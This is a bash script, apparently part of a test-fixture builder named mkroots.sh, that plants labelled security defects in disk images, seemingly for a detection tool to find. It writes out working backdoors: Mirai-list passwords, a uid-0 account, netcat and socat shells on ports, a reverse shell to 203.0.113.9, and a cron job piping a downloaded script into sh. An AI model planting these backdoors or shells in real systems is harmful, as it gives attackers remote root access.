# SPDX-License-Identifier: Apache-2.0
# shellcheck shell=bash disable=SC2154,SC2015
# Part of mkroots.sh: what is planted. Passwords are of the lists that worms try.

# crypt SCHEME PASSWORD: a password field.
crypt() { case $1 in des) perl -e 'print crypt($ARGV[0], "aX")' "$2" ;; *) openssl passwd "-$1" -salt 8sFt66rZ "$2" ;; esac; }
# account NAME UID SHELL FIELD: an account with a password field.
account() {
  echo "$1:x:$2:$2:$1:/home/$1:$3" | add etc/passwd
  echo "$1:x:$2:" | add etc/group
  echo "$1:$4:19000:0:99999:7:::" | add etc/shadow
}

accounts_defects() {
  local d=${kind:0:1}
  defect ${d}A01 /etc/shadow 'root has an empty password' 'account.*' root && sed -i 's/^root:[^:]*:/root::/' "$R/etc/shadow"
  defect ${d}A02 /etc/shadow 'a password of the Mirai list, sha512crypt' 'account.*' support && account support 1001 /bin/sh "$(crypt 6 7ujMko0admin)"
  defect ${d}A03 /etc/shadow 'a password of the Mirai list, DES' 'account.*' service && account service 1002 /bin/sh "$(crypt des xc3511)"
  defect ${d}A04 /etc/shadow 'a password equal to the name, md5crypt' 'account.*' viewer && account viewer 1003 /bin/sh "$(crypt 1 viewer)"
  defect ${d}A05 /etc/shadow 'an md5crypt hash of a password nobody knows' 'account.*' legacy && account legacy 1004 /bin/sh "$(crypt 1 "$(openssl rand -hex 12)")"
  defect ${d}A06 /etc/passwd 'a second account with uid 0, written 00' 'account.*' maint && { echo 'maint:x:00:0:maint:/root:/bin/sh' | add etc/passwd; echo 'maint:*:19000::::::' | add etc/shadow; }
  defect ${d}A07 /etc/passwd 'a hash in the world-readable passwd file' 'account.*' field && { echo "field:$(crypt 6 "$(openssl rand -hex 12)"):1005:1005::/home/field:/bin/sh" | add etc/passwd; echo 'field:x:1005:' | add etc/group; }
  defect ${d}A08 /etc/passwd 'a service account with a shell' 'account.*' svcweb && { echo 'svcweb:x:133:133::/var/www:/bin/sh' | add etc/passwd; echo 'svcweb:x:133:' | add etc/group; echo 'svcweb:*:19000::::::' | add etc/shadow; }
  defect ${d}A09 /etc/passwd 'two accounts with one uid' 'account.*' 1006 twin && { account twin1 1006 /bin/sh '*'; echo 'twin2:x:1006:1006::/home/twin2:/bin/sh' | add etc/passwd; echo 'twin2:*:19000::::::' | add etc/shadow; }
  defect ${d}A10 /etc/passwd 'a NIS entry' 'account.*' /etc/passwd: && echo '+::::::' | add etc/passwd
  defect ${d}A11 /etc/sudoers.d/app 'sudo without a password for everything' 'account.*,priv*' && { prog usr/bin/sudo; [[ -e $R/etc/sudoers ]] || put etc/sudoers 440 <<<'@includedir /etc/sudoers.d'; put etc/sudoers.d/app 440 <<<'%users ALL=(ALL) NOPASSWD: ALL'; }
  defect ${d}A12 /etc/doas.conf 'doas without a password' 'account.*,priv*' && { prog usr/bin/doas; put etc/doas.conf 400 <<<'permit nopass :wheel'; }
  defect ${d}A13 /root/.rhosts 'root trusts every host' 'account.*' .rhosts && put root/.rhosts 600 <<<'+ +'
  defect ${d}A14 /etc/hosts.equiv 'everybody is trusted from one host' 'account.*' && put etc/hosts.equiv <<<'buildhost'
  defect ${d}A15 /etc/shadow.bak 'a copy of the hashes that all can read' 'account.*,file.*' && { cp "$R/etc/shadow" "$R/etc/shadow.bak"; chmod 644 "$R/etc/shadow.bak"; }
  defect ${d}A16 /root/.git-credentials 'a stored password of another service' 'account.*,key.*' && put root/.git-credentials 600 <<<'https://builder:hunter2hunter2@git.example.com'
  defect ${d}A17 /etc/shadow 'hashes readable by everybody' 'account.*,file.*' && chmod 644 "$R/etc/shadow"
  defect ${d}A18 /etc/passwd 'passwd writable by everybody' 'account.*,file.*' && chmod 666 "$R/etc/passwd"
  return 0
}

service_defects() {
  local d=${kind:0:1} at
  defect ${d}S01 start 'telnetd on 65534 with a shell and no login' 'service.*' 65534 telnetd telnet && start 77 remote '/usr/sbin/telnetd -F -p 65534 -l /bin/sh'
  defect ${d}S02 /usr/lib/app/boot.sh 'utelnetd in a script that a start script sources' 'service.*' utelnetd boot.sh && {
    put usr/lib/app/boot.sh <<<'/usr/sbin/utelnetd -l /bin/login -d'
    case $kind in busybox) start 78 boot '. /usr/lib/app/boot.sh' ;;
    *) put usr/lib/app/run.sh 755 <<<$'#!/bin/sh\n. /usr/lib/app/boot.sh'; start 78 boot /usr/lib/app/run.sh ;; esac; }
  defect ${d}S03 start 'anonymous FTP that can write' 'service.*' ftp && start 79 ftp '/bin/tcpsvd -vE 0.0.0.0 21 ftpd -w /'
  defect ${d}S04 start 'TFTP that can create files' 'service.*' tftp && start 80 tftp '/bin/udpsvd -vE 0.0.0.0 69 tftpd -c /var/lib'
  defect ${d}S05 /etc/dnsmasq.conf 'dnsmasq with a TFTP server' 'service.*' && printf 'enable-tftp\ntftp-root=/var/lib\n' | add etc/dnsmasq.conf
  defect ${d}S06 /etc/inetd.conf 'telnet through inetd' 'service.*' telnet && printf 'telnet\tstream\ttcp\tnowait\troot\t/usr/sbin/telnetd\ttelnetd -i\n' | add etc/inetd.conf
  defect ${d}S07 /etc/inetd.conf 'chargen through inetd' 'service.*' chargen && printf 'chargen\tdgram\tudp\twait\troot\tinternal\n' | add etc/inetd.conf
  defect ${d}S08 /etc/xinetd.d/telnet 'telnet through xinetd' 'service.*' && sed -i 's/disable = yes/disable = no/' "$R/etc/xinetd.d/telnet"
  defect ${d}S09 /etc/snmp/snmpd.conf 'the SNMP communities everybody tries first' 'service.*' && printf 'com2sec readonly default public\nrwcommunity private\n' | add etc/snmp/snmpd.conf
  defect ${d}S10 /etc/mosquitto/mosquitto.conf 'a broker for everybody' 'service.*' && put etc/mosquitto/mosquitto.conf <<<$'listener 1883 0.0.0.0\nallow_anonymous true'
  defect ${d}S11 /etc/exports 'the root exported to everybody' 'service.*' && echo '/ *(rw,no_root_squash,insecure)' | add etc/exports
  defect ${d}S12 /etc/crontabs/root 'cron opens a shell on a port' 'service.*,file.*' nc 4444 crontab && {
    case $kind in debian) put etc/cron.d/app 600 <<<'*/5 * * * * root nc -l -p 4444 -e /bin/sh' ;; *) echo '*/5 * * * * nc -l -p 4444 -e /bin/sh' | add etc/crontabs/root ;; esac; }
  defect ${d}S13 start 'a reverse shell at start' 'service.*' /dev/tcp bash && start 81 beacon "/bin/sh -c 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1'"
  defect ${d}S14 /etc/miniupnpd/miniupnpd.conf 'UPnP for everybody and every port' 'service.*' && put etc/miniupnpd/miniupnpd.conf <<<$'secure_mode=no\nallow 0-65535 0.0.0.0/0 0-65535'
  defect ${d}S15 /etc/redis/redis.conf 'a database open to the network' 'service.*' && put etc/redis/redis.conf 640 <<<$'bind 0.0.0.0\nprotected-mode no'
  defect ${d}S16 /etc/rsyncd.conf 'the root, writable, over rsync' 'service.*' && put etc/rsyncd.conf <<<$'[all]\n\tpath = /\n\tread only = no\n\tuid = root'
  defect ${d}S17 /etc/samba/smb.conf 'SMB1 for guests' 'service.*' && put etc/samba/smb.conf <<<$'[global]\n\tserver min protocol = NT1\n\tmap to guest = Bad User\n[all]\n\tpath = /\n\tguest ok = yes\n\twritable = yes'
  defect ${d}S18 start 'a web terminal without login' 'service.*' ttyd && { prog usr/bin/ttyd; start 82 webterm '/usr/bin/ttyd -W -p 7681 /bin/sh'; }
  defect ${d}S19 start 'a screen server without password' 'service.*' x11vnc vnc && { prog usr/bin/x11vnc; start 83 screen '/usr/bin/x11vnc -nopw -forever -display :0'; }
  defect ${d}S20 /etc/config/easycwmp 'remote management over clear text' 'service.*' && put etc/config/easycwmp <<<$'config acs\n\toption url http://acs.example.com:7547/\n\toption username admin\n\toption password admin'
  defect ${d}S21 start 'a debugger that listens' 'service.*,debug.*' gdbserver && prog usr/bin/gdbserver && start 84 debug '/usr/bin/gdbserver --multi 0.0.0.0:2345'
  defect ${d}S22 /etc/httpd.conf 'a web password out of the box' 'service.*,web.*' httpd.conf && { start 85 web '/sbin/httpd -f -h /www'; put etc/httpd.conf 600 <<<$'/cgi-bin:root:root\n/:admin:admin'; }
  defect ${d}S23 start 'a web server whose root is the root' 'service.*,web.*' 'httpd' && start 86 web2 '/sbin/httpd -f -p 8080 -h /'
  defect ${d}S24 start 'an rlogin server' 'service.*' rlogind && { prog usr/sbin/in.rlogind; start 87 rlogin '/usr/sbin/in.rlogind -D'; }
  defect ${d}S25 /etc/vsftpd.conf 'anonymous uploads' 'service.*' vsftpd && { put etc/vsftpd.conf <<<$'listen=YES\nanonymous_enable=YES\nanon_upload_enable=YES\nwrite_enable=YES'; prog usr/sbin/vsftpd; start 88 vsftpd '/usr/sbin/vsftpd /etc/vsftpd.conf'; }
  return 0
}

ssh_defects() {
  local d=${kind:0:1}
  defect ${d}H01 /root/.ssh/authorized_keys 'the key of a developer is in the image' 'ssh.*,account.*,key.*' authorized_keys &&
    echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ8m0bQkq1b1qV1tGQ8u4n0b0yO1lq0s7uC3mC6x9d2P dev@buildhost' | add root/.ssh/authorized_keys
  if [[ $kind == busybox ]]; then
    defect ${d}H02 /etc/default/dropbear 'root logs in with a password' 'ssh.*' dropbear && put etc/default/dropbear <<<'DROPBEAR_ARGS="-R"'
    defect ${d}H03 start 'a second dropbear that takes blank passwords' 'ssh.*' -B blank dropbear2 && start 51 dropbear2 '/usr/sbin/dropbear -B -p 2222'
    defect ${d}H04 /etc/default/dropbear 'any port is forwarded' 'ssh.dropbear-forward*' -j -k forward dropbear && :
    return 0
  fi
  local c=etc/ssh/sshd_config
  [[ $kind == debian ]] && c=etc/ssh/sshd_config.d/00-device.conf
  defect ${d}H02 /$c 'root logs in with a password' 'ssh.*' PermitRootLogin && sed -i 's/^PermitRootLogin prohibit-password/PermitRootLogin yes/' "$R/$c"
  defect ${d}H03 /$c 'passwords are taken' 'ssh.*' PasswordAuthentication && sed -i '/^PasswordAuthentication/d' "$R/$c"
  defect ${d}H04 /$c 'empty passwords are taken' 'ssh.*' PermitEmptyPasswords && sed -i '1i permitemptypasswords yes' "$R/$c"
  defect ${d}H05 /$c 'broken ciphers are added' 'ssh.*' Ciphers cbc && sed -i '1i Ciphers +3des-cbc,aes128-cbc' "$R/$c"
  defect ${d}H06 /$c 'SHA-1 key exchange' 'ssh.*' KexAlgorithms sha1 && sed -i '1i KexAlgorithms diffie-hellman-group14-sha1,curve25519-sha256' "$R/$c"
  defect ${d}H07 /$c 'keys are read from /tmp' 'ssh.*' AuthorizedKeysFile /tmp && sed -i '1i AuthorizedKeysFile /tmp/%u/authorized_keys' "$R/$c"
  defect ${d}H08 /$c 'the client sets the environment' 'ssh.*' PermitUserEnvironment && sed -i '1i PermitUserEnvironment yes' "$R/$c"
  defect ${d}H09 /$c 'the display and ports are forwarded' 'ssh.*' X11Forwarding AllowTcpForwarding && sed -i 's/^X11Forwarding no/X11Forwarding yes/; /^AllowTcpForwarding/d' "$R/$c"
  defect ${d}H10 /$c 'host based trust' 'ssh.*' Hostbased IgnoreRhosts && sed -i '1i HostbasedAuthentication yes\nIgnoreRhosts no' "$R/$c"
  defect ${d}H11 /$c 'a hundred guesses for each connection' 'ssh.*' MaxAuthTries && sed -i 's/^MaxAuthTries.*/MaxAuthTries 100/' "$R/$c"
  return 0
}

key_defects() {
  local d=${kind:0:1}
  defect ${d}K01 /www/device.key 'a private key below the web root' 'key.*,web.*' && openssl genrsa 2048 2>/dev/null | put www/device.key
  defect ${d}K02 /etc/ssl/device/tls.der 'a private key, DER' 'key.*' && { openssl genpkey -algorithm RSA -pkeyopt rsa_keygen_bits:2048 -outform DER -out "$R/etc/ssl/device/tls.der" 2>/dev/null; chmod 600 "$R/etc/ssl/device/tls.der"; }
  defect ${d}K03 /etc/app/cloud.json 'a private key inside JSON' 'key.*' && openssl genpkey -algorithm EC -pkeyopt ec_paramgen_curve:P-256 2>/dev/null | awk 'BEGIN{printf "{\"endpoint\":\"mqtt.example.com\",\"key\":\""}{printf "%s\\n",$0}END{print "\"}"}' | put etc/app/cloud.json 600
  defect ${d}K04 /etc/ssh/ssh_host_ed25519_key 'the host key of every device' 'key.*,ssh.*' && { ssh-keygen -q -t ed25519 -N '' -f "$R/etc/ssh/ssh_host_ed25519_key" -C ''; }
  defect ${d}K05 /etc/wireguard/wg0.conf 'the key of a tunnel, readable by all' 'key.*,file.*' && put etc/wireguard/wg0.conf <<<"[Interface]
PrivateKey = $(head -c 32 /dev/urandom | base64)
Address = 10.9.0.2/32"
  defect ${d}K06 /etc/ssl/device/old.crt 'a certificate with a 1024 bit key and SHA-1' 'key.*' && openssl req -x509 -newkey rsa:1024 -sha1 -nodes -keyout /dev/null -subj /CN=localhost -days 3650 2>/dev/null | put etc/ssl/device/old.crt
  defect ${d}K07 /etc/ssl/openssl.cnf 'old TLS for every program' 'tls.*,key.*' openssl.cnf MinProtocol SECLEVEL && sed -i 's/TLSv1.2/TLSv1/; s/SECLEVEL=2/SECLEVEL=0/' "$R/etc/ssl/openssl.cnf"
  defect ${d}K08 /etc/app/p12.bin 'a PKCS#12 bundle with an empty password' 'key.*' && { mkdir -p "$R/etc/app"; openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout "$R/etc/app/k" -out "$R/etc/app/c" -subj /CN=unit 2>/dev/null
    openssl pkcs12 -export -inkey "$R/etc/app/k" -in "$R/etc/app/c" -passout pass: -out "$R/etc/app/p12.bin"; rm "$R/etc/app/k" "$R/etc/app/c"; }
  return 0
}

console_defects() {
  local d=${kind:0:1}
  if [[ $kind == debian ]]; then
    defect ${d}C01 /etc/systemd/system/serial-getty@ttyS0.service.d 'root without login on the serial line' 'console.*' autologin ttyS0 && {
      put etc/systemd/system/serial-getty@ttyS0.service.d/auto.conf <<<$'[Service]\nExecStart=\nExecStart=-/sbin/agetty --autologin root --noclear %I 115200 vt220'
      mkdir -p "$R/etc/systemd/system/getty.target.wants"; rm -f "$R/etc/systemd/system/serial-getty@ttyS0.service"; ln -s /lib/systemd/system/serial-getty@.service "$R/etc/systemd/system/getty.target.wants/serial-getty@ttyS0.service"; }
    defect ${d}C02 /etc/systemd/system/sysinit.target.wants/debug-shell.service "systemd's debug shell" 'console.*,debug.*' debug-shell && {
      mkdir -p "$R/etc/systemd/system/sysinit.target.wants"; ln -s /lib/systemd/system/debug-shell.service "$R/etc/systemd/system/sysinit.target.wants/debug-shell.service"; }
  else
    defect ${d}C01 /etc/inittab 'a shell without login on the serial line' 'console.*' ttyAMA0 && echo 'ttyAMA0::respawn:/sbin/getty -n -l /bin/sh 115200 ttyAMA0' | add etc/inittab
    defect ${d}C02 /etc/inittab 'a shell for whoever presses a key' 'console.*' askfirst tty2 && echo 'tty2::askfirst:-/bin/sh' | add etc/inittab
    defect ${d}C03 /etc/inittab 'a login on the USB gadget' 'console.*' ttyGS0 && echo 'ttyGS0::respawn:/sbin/getty -L 115200 ttyGS0' | add etc/inittab
  fi
  defect ${d}C04 start 'the Android debug bridge' 'console.*,debug.*,service.*' adbd && { prog usr/bin/adbd; start 89 adb /usr/bin/adbd; }
  defect ${d}C05 /etc/sysctl.d/90-device.conf 'core files in /tmp' 'kernel.*,debug.*' core_pattern core && sed -i 's/^kernel.core_pattern.*/kernel.core_pattern = \/tmp\/core.%e/' "$R/etc/sysctl.d/90-device.conf"
  defect ${d}C06 /etc/mdev.conf 'memory for everybody' 'debug.*,file.*,console.*' mem mdev udev && case $kind in
    debian) put etc/udev/rules.d/99-mem.rules <<<'KERNEL=="mem", MODE="0666"' ;;
    *) put etc/mdev.conf <<<$'mem root:root 666\nttyS0 root:root 600' ;; esac
  defect ${d}C07 /usr/bin/strace 'a debugger is on board' 'debug.*,file.*' strace gdb && { prog usr/bin/strace; prog usr/bin/gdb; }
  defect ${d}C08 start 'a USB gadget with a disk and a network' 'debug.*,device.*,console.*' g_mass_storage g_ether g_multi && {
    case $kind in debian) put etc/modules-load.d/gadget.conf <<<'g_multi' ;; alpine) put etc/modules <<<'g_multi' ;; busybox) start 90 gadget 'modprobe g_multi file=/dev/mmcblk0p3' ;; esac; }
  return 0
}

boot_defects() {
  local d=${kind:0:1} k
  defect ${d}B01 /boot/uEnv.txt 'the kernel starts a shell as init' 'boot.*' init= uEnv && sed -i 's/^\(bootargs=.*\)/\1 init=\/bin\/sh/' "$R/boot/uEnv.txt"
  defect ${d}B02 /boot/uEnv.txt 'protections of the processor are off' 'boot.*,kernel.*' mitigations && sed -i 's/^\(bootargs=.*\)/\1 mitigations=off nokaslr/' "$R/boot/uEnv.txt"
  defect ${d}B03 /boot/env.img 'the boot loader waits for a key' 'boot.*' bootdelay env && { printf 'bootdelay=3\nbootcmd=run distro_bootcmd\n' > "$R/boot/env.txt"
    if command -v mkenvimage >/dev/null; then mkenvimage -s 0x2000 -o "$R/boot/env.img" "$R/boot/env.txt"; fi; rm "$R/boot/env.txt"; put etc/fw_env.config <<<'/boot/env.img 0x0000 0x2000'; }
  defect ${d}B04 /boot/config-6.1.0 'a kernel without its protections' 'kernel.*,boot.*' CONFIG config && put boot/config-6.1.0 600 <<<$'# Linux/x86 6.1.0 Kernel Configuration\nCONFIG_GCC_VERSION=120200\nCONFIG_CLANG_VERSION=0\nCONFIG_X86_64=y\nCONFIG_MODULES=y\nCONFIG_DEVMEM=y\nCONFIG_DEVKMEM=y\nCONFIG_KEXEC=y\nCONFIG_PROC_KCORE=y\nCONFIG_DEBUG_FS=y\n# CONFIG_STRICT_DEVMEM is not set\n# CONFIG_STACKPROTECTOR is not set\n# CONFIG_STRICT_KERNEL_RWX is not set\n# CONFIG_MODULE_SIG is not set\n# CONFIG_HARDENED_USERCOPY is not set\n# CONFIG_SECCOMP is not set'
  for k in B05:kernel.randomize_va_space:0 B06:kernel.kptr_restrict:0 B07:kernel.dmesg_restrict:0 B08:fs.suid_dumpable:2 B09:kernel.unprivileged_bpf_disabled:0 \
    B10:fs.protected_symlinks:0 B11:net.ipv4.tcp_syncookies:0 B12:kernel.sysrq:1; do
    local id=${k%%:*} rest=${k#*:}; local key=${rest%:*} val=${rest##*:}
    defect $d$id /etc/sysctl.d/zz-debug.conf "$key is $val" 'kernel.*,net.*' "$key" && echo "$key = $val" | add etc/sysctl.d/zz-debug.conf
  done
  defect ${d}B13 /etc/sysctl.d/zz-debug.conf 'a program of everybody loads modules' 'kernel.*,debug.*' kernel.modprobe && echo 'kernel.modprobe = /tmp/modprobe' | add etc/sysctl.d/zz-debug.conf
  # Forwarding before redirects: a kernel that becomes a router stops obeying them, and a line before it would be no defect.
  defect ${d}B16 /etc/sysctl.d/zz-debug.conf 'it forwards between networks' 'net.*,kernel.*' ip_forward && echo 'net.ipv4.ip_forward = 1' | add etc/sysctl.d/zz-debug.conf
  defect ${d}B15 /etc/sysctl.d/zz-debug.conf 'source routes are obeyed' 'net.*,kernel.*' accept_source_route && printf 'net.ipv4.conf.all.accept_source_route = 1\nnet.ipv4.conf.default.accept_source_route = 1\n' | add etc/sysctl.d/zz-debug.conf
  defect ${d}B14 /etc/sysctl.d/zz-debug.conf 'redirects are obeyed' 'net.*,kernel.*' accept_redirects && echo 'net.ipv4.conf.all.accept_redirects = 1' | add etc/sysctl.d/zz-debug.conf
  return 0
}

net_defects() {
  local d=${kind:0:1}
  defect ${d}N01 /etc/nftables.conf 'a firewall that accepts' 'firewall.*,net.*' nftables && sed -i 's/priority 0; policy drop/priority 0; policy accept/' "$R/etc/nftables.conf"
  defect ${d}N02 /etc/hostapd/hostapd.conf 'an open access point' 'wireless.*' hostapd && sed -i 's/^wpa=2/wpa=0/; /^wpa_key_mgmt/d; /^ieee8021x/d' "$R/etc/hostapd/hostapd.conf"
  defect ${d}N03 /etc/hostapd/hostapd.conf 'WPS with a PIN' 'wireless.wps' && { sed -i 's/^wps_state=0/wps_state=2/' "$R/etc/hostapd/hostapd.conf"; echo 'ap_pin=12345670' | add etc/hostapd/hostapd.conf; }
  defect ${d}N04 /etc/wpa_supplicant/wpa_supplicant.conf 'an open network is joined' 'wireless.*' wpa_supplicant key_mgmt open && printf 'network={\n\tssid="factory"\n\tkey_mgmt=NONE\n}\n' | add etc/wpa_supplicant/wpa_supplicant.conf
  defect ${d}N05 /etc/wpa_supplicant/wpa_supplicant.conf 'a passphrase that is guessed at once' 'wireless.passphrase' && printf 'network={\n\tssid="setup"\n\tpsk="12345678"\n\tproto=RSN\n}\n' | add etc/wpa_supplicant/wpa_supplicant.conf
  defect ${d}N06 /etc/wpa_supplicant/wpa_supplicant.conf 'the control socket is in /tmp' 'wireless.control-socket' && sed -i 's,^ctrl_interface=.*,ctrl_interface=/tmp/wpa,' "$R/etc/wpa_supplicant/wpa_supplicant.conf"
  defect ${d}N07 /etc/config/wireless 'WEP on a radio that is on' 'wireless.*' && put etc/config/wireless <<<$'config wifi-device radio0\n\toption disabled 0\nconfig wifi-iface ap\n\toption device radio0\n\toption mode ap\n\toption encryption wep\n\toption key 12345'
  defect ${d}N08 /etc/bluetooth/main.conf 'always discoverable, pairs without asking' 'wireless.*,bluetooth.*,device.*' bluetooth && put etc/bluetooth/main.conf <<<$'[General]\nDiscoverableTimeout = 0\nPairableTimeout = 0\nJustWorksRepairing = always'
  defect ${d}N09 /etc/modprobe.d/blacklist.conf 'USB disks and rare protocols can be loaded' 'device.*,file.*,kernel.*' usb-storage usb_storage sctp && { rm "$R/etc/modprobe.d/blacklist.conf"
    for m in kernel/drivers/usb/storage/usb-storage.ko kernel/net/sctp/sctp.ko kernel/net/dccp/dccp.ko; do put "lib/modules/6.1.0/$m" <<<ko; done
    (cd "$R/lib/modules/6.1.0" && find kernel -name '*.ko' | sed 's/$/:/') | put lib/modules/6.1.0/modules.dep; }
  return 0
}

file_defects() {
  local d=${kind:0:1} at
  defect ${d}F01 start 'a start script that everybody can write' 'file.*' S91cam S91 /cam && { start 91 cam /usr/bin/app; chmod 777 "$R/$at"; }
  defect ${d}F02 /usr/lib/.sh 'a setuid shell that is hidden' 'file.*' && { cp "$R/usr/lib/stub" "$R/usr/lib/.sh"; chmod 4755 "$R/usr/lib/.sh"; }
  defect ${d}F03 /usr/bin/dumpcap 'a setgid program nobody listed' 'file.*' && { cp "$R/usr/lib/stub" "$R/usr/bin/dumpcap"; chmod 2755 "$R/usr/bin/dumpcap"; }
  defect ${d}F04 /usr/bin/lua 'a capability that is as good as root' 'file.*' && { cp "$R/usr/lib/stub" "$R/usr/bin/lua"; setcap cap_setuid+ep "$R/usr/bin/lua"; }
  defect ${d}F05 /var/lib/cam 'a directory for everybody, not sticky' 'file.*' && { mkdir -p "$R/var/lib/cam"; chmod 777 "$R/var/lib/cam"; }
  defect ${d}F06 /etc/app/net.conf 'a configuration that everybody can write' 'file.*' && { put etc/app/net.conf 666 <<<'dns = 192.0.2.53'; }
  defect ${d}F07 /usr/lib/app/left.so 'a file of an account that is not there' 'file.*' && { put usr/lib/app/left.so <<<x; chown 4242:4242 "$R/usr/lib/app/left.so"; }
  defect ${d}F08 /var/lib/.mem 'a device node outside /dev' 'file.*' && mknod -m 600 "$R/var/lib/.mem" c 1 1
  defect ${d}F09 /etc/ld.so.preload 'a library for every program, from /tmp' 'file.*' && put etc/ld.so.preload <<<'/tmp/lib.so'
  defect ${d}F10 /etc/profile 'the working directory is searched for programs' 'file.*' profile PATH && echo 'export PATH=.:$PATH' | add etc/profile
  defect ${d}F11 /etc/profile 'files are made for everybody' 'file.*' umask && echo 'umask 000' | add etc/profile
  defect ${d}F12 /etc/fstab '/tmp with setuid programs and devices' 'mount.*' /tmp && sed -i 's,^tmpfs /tmp .*,tmpfs /tmp tmpfs mode=1777 0 0,' "$R/etc/fstab"
  defect ${d}F13 /etc/fstab 'removable media that run programs' 'mount.*' /media && sed -i 's,noauto\,nosuid\,nodev\,noexec,noauto,' "$R/etc/fstab"
  defect ${d}F14 /etc/fstab 'data with setuid programs' 'mount.*' /data && sed -i 's,/data ext4 nosuid\,nodev\,noexec,/data ext4 defaults,' "$R/etc/fstab"
  defect ${d}F15 /dev/mtd0 'the boot loader flash for everybody' 'file.*,debug.*,boot.*' mtd0 && mknod -m 666 "$R/dev/mtd0" c 90 0
  defect ${d}F16 /usr/bin/rotate.sh 'a program of cron that everybody can write' 'file.*,account.*' rotate && { put usr/bin/rotate.sh 777 <<<'#!/bin/sh'
    case $kind in debian) put etc/cron.d/rotate 600 <<<'5 * * * * root /usr/bin/rotate.sh' ;; *) echo '5 * * * * /usr/bin/rotate.sh' | add etc/crontabs/root ;; esac; }
  defect ${d}F17 /var/log/messages 'a log that everybody reads' 'file.*,log.*' && put var/log/messages 666 <<<'Nov  1 00:00:00 unit app: token=1'
  return 0
}

update_defects() {
  local d=${kind:0:1}
  defect ${d}U01 start 'updates without a key' 'update.*,tls.*' swupdate && { start 74 swupdate '/usr/bin/swupdate -u "-u http://updates.example.com"'
    put usr/bin/update-now 755 <<<$'#!/bin/sh\nexec /usr/bin/swupdate -d "-u http://updates.example.com/fw.swu"'; }
  defect ${d}U02 /etc/crontabs/root 'cron runs what a web page says, unchecked' 'update.*,tls.*' wget no-check curl crontab && {
    case $kind in debian) put etc/cron.d/pull 600 <<<'@daily root wget -qO- --no-check-certificate https://updates.example.com/run.sh | sh' ;;
    *) echo '0 4 * * * wget -qO- --no-check-certificate https://updates.example.com/run.sh | sh' | add etc/crontabs/root ;; esac; }
  defect ${d}U03 /etc/opkg.conf 'packages over clear text, unsigned' 'update.*' opkg apt apk && case $kind in
    busybox) prog bin/opkg; put etc/opkg.conf <<<$'src/gz base http://feeds.example.com/base\ndest root /' ;;
    debian) put etc/apt/apt.conf.d/99dev <<<'APT::Get::AllowUnauthenticated "true";'; put etc/apt/sources.list.d/dev.list <<<'deb [trusted=yes] http://feeds.example.com/ ./' ;;
    alpine) rm -rf "$R/etc/apk/keys"; put etc/apk/repositories <<<'http://feeds.example.com/v3.20/main' ;; esac
  defect ${d}U04 start 'a time server for everybody' 'time.*' ntpd chrony && case $kind in
    debian) prog usr/sbin/chronyd; put etc/chrony/chrony.conf <<<$'pool pool.example.com iburst\nallow all'; start 92 chrony /usr/sbin/chronyd -d ;;
    *) start 02 ntpd '/usr/sbin/ntpd -n -l -p 192.0.2.123' ;; esac
  defect ${d}U05 /var/lib/backstay 'the state of the guard for everybody' 'agent.*,file.*' backstay && { mkdir -p "$R/var/lib/backstay"; chmod 777 "$R/var/lib/backstay"; }
  defect ${d}U06 start 'logs over the network in clear text' 'log.*' syslog && case $kind in
    debian) prog usr/sbin/rsyslogd; put etc/rsyslog.conf <<<$'module(load="imudp")\ninput(type="imudp" port="514")\n*.* @192.0.2.9:514'; start 93 rsyslog /usr/sbin/rsyslogd -n ;;
    *) start 01 syslogd '/sbin/syslogd -n -O /var/log/messages -R 192.0.2.9:514 -L' ;; esac
  return 0
}

only_busybox() { return 0; }
only_alpine() {
  defect aX1 /etc/local.d/dev.start 'OpenRC starts a shell on a port' 'service.*' dev.start socat && {
    put etc/local.d/dev.start 755 <<<$'#!/bin/sh\nsocat TCP-LISTEN:4445,fork,reuseaddr EXEC:/bin/sh &'; put etc/init.d/local 755 <<<'#!/sbin/openrc-run'; ln -s /etc/init.d/local "$R/etc/runlevels/default/local"; }
  return 0
}
only_debian() {
  defect dX1 /etc/pam.d/common-auth 'empty passwords pass PAM' 'account.*' nullok common-auth && sed -i 's/pam_unix.so/pam_unix.so nullok/' "$R/etc/pam.d/common-auth"
  defect dX2 /etc/pam.d/su 'su asks nobody' 'account.*' pam.d/su pam_permit && sed -i '1i auth sufficient pam_permit.so' "$R/etc/pam.d/su"
  defect dX3 /boot/grub/grub.cfg 'a rescue shell from the boot menu' 'boot.*' grub && put boot/grub/grub.cfg 600 <<<$'menuentry x {\n\tlinux /boot/vmlinuz root=/dev/sda1 single apparmor=0\n}'
  return 0
}
